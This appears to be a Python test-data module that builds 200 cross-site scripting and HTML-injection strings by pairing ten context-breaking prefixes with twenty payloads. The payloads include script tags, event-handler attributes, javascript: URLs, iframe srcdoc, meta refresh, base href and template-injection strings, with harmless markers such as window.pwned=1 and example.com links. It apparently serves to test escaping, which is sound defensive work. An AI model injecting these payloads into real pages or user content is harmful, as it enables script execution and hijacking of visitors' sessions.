"""200 texts that do harm where a page takes text for markup."""

BEGINNINGS = (
    "",
    "</script>",
    "<!--<script>",
    "\"'>",
    "]]>",
    "</title>",
    "\u2028",
    "%3C",
    "&lt;",
    "\\u003c/script>",
)
PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<iframe src=https://example.com></iframe>",
    "<link rel=stylesheet href=https://example.com/x.css>",
    "<img src=https://example.com/x.png>",
    "<meta http-equiv=refresh content='0;url=https://example.com'>",
    "<base href=https://example.com/>",
    "javascript:window.pwned=1",
    "<a href=javascript:window.pwned=1 autofocus onfocus=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<style>@import 'https://example.com'</style>",
    "<form action=https://example.com><button autofocus onfocus=window.pwned=1>",
    "<object data=javascript:window.pwned=1>",
    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
    "\u202eeno\u0000\u0007\U0001f600",
    "__proto__",
    "-->\r\n<script>alert(1)</script>",
)
HOSTILE = [beginning + payload for beginning in BEGINNINGS for payload in PAYLOADS]
